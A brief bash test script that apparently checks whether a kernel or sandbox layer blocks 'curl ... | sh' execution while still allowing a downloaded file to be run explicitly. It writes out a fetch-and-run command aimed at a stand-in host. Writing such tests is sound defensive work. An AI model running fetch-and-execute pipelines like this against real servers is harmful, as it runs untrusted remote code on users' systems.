#!/usr/bin/env bash
# shellcheck disable=SC2016,SC2154
set -eu
# the shell behind the pipe starts nothing; the one beside it does
# shellcheck source=tests/kernel/lib.bash
. "$CASES/../kernel/lib.bash"
bash -c 'curl -sS http://192.0.2.77:7003/ | sh' >"$T/said" 2>&1 || true
absent ran
curl -sS -o got http://192.0.2.77:7003/ 2>"$T/said"
sh got
[[ -e ran ]]
